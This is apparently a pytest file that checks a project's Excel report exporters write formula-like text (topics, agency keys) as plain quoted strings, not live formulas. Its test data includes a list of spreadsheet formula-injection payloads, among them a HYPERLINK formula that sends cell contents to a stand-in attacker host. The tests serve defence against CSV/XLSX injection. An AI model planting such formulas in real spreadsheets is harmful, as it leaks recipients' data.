"""Finding 10: every workbook the project writes stores text as text (engine.reports.xlsx_text).

openpyxl used to write a string starting with "=" as a formula: a topic or an agency key
"=HYPERLINK(…)" ran in the recipient's Excel.
"""
from __future__ import annotations

import io
from collections import Counter
from datetime import UTC, datetime

from openpyxl import load_workbook

from engine.calendar import periods
from engine.models import Message
from engine.reports import summary as reports
from engine.reports.comparison_xlsx import write_comparison_xlsx
from engine.reports.summary_xlsx import write_xlsx
from engine.runtime import cases as runtime
from engine.views.comparison import Cell, Comparison

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"Открыть")', "=1+1", "+7 (495) 000", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1")


def _cells(data: bytes) -> dict[str, tuple[str, bool]]:
    """Every string cell of every sheet: value → (data type, quote prefix)."""
    book = load_workbook(io.BytesIO(data))
    return {c.value: (c.data_type, bool(c.quotePrefix)) for s in book.worksheets for row in s.iter_rows() for c in row
            if isinstance(c.value, str)}


def test_a_summary_writes_hostile_text_as_text(virtual_clock) -> None:  # type: ignore[no-untyped-def]
    period = periods.parse_period("2025-11", "Asia/Yekaterinburg")
    summary = reports.Summary("orenburg", "=1+1", period, messages=3, by_network=Counter({HOSTILE[4]: 1}),
                              by_topic=Counter({t: 1 for t in HOSTILE}),
                              agencies=[reports.AgencyLine(HOSTILE[0], cases=1, by_clause=Counter({"=2+2": 1}))])
    buffer = io.BytesIO()
    write_xlsx(summary, buffer)
    cells = _cells(buffer.getvalue())
    for text in HOSTILE:
        assert cells[text] == ("s", True), text
    assert cells["Регион"] == ("s", False)  # ordinary text is untouched
    totals = load_workbook(io.BytesIO(buffer.getvalue()))["Итоги"]
    assert totals["B3"].value == 3 and totals["B3"].data_type == "n"  # numbers stay numbers


def test_the_comparison_writes_hostile_text_as_text() -> None:
    cells = {"orenburg": {"routing": Cell(HOSTILE[0], ("a",), True, "=6", ("=x",)), "summary": Cell("=1+1")}}
    table = Comparison(["orenburg"], {"orenburg": "@title"}, cells, {"orenburg": "orenburg"}, {"orenburg": 1})
    buffer = io.BytesIO()
    write_comparison_xlsx(table, buffer)
    found = _cells(buffer.getvalue())
    formulas = {value: kind for value, kind in found.items() if value.startswith(("=", "@"))}
    assert formulas and all(kind == ("s", True) for kind in formulas.values()), formulas
    assert "=1+1" in found


def test_the_report_download_keeps_a_typed_topic_as_text(app, client_for) -> None:  # type: ignore[no-untyped-def]
    at = datetime(2025, 10, 31, 6, 0, tzinfo=UTC)
    with app.extensions["otklik_db"].session() as session:
        instance = runtime.start_procedure(session, runtime.MessageInput(
            region="orenburg", network="vk", url="https://vk.com/wall-1_1", author="А", text="Т", posted_at=at,
            detected_at=at), "curator")
        session.get(Message, instance.message_id).topic = HOSTILE[0]
    response = client_for("curator").get("/reports/export?region=orenburg&period=2025-10")
    assert response.status_code == 200
    assert _cells(response.data)[HOSTILE[0]] == ("s", True)
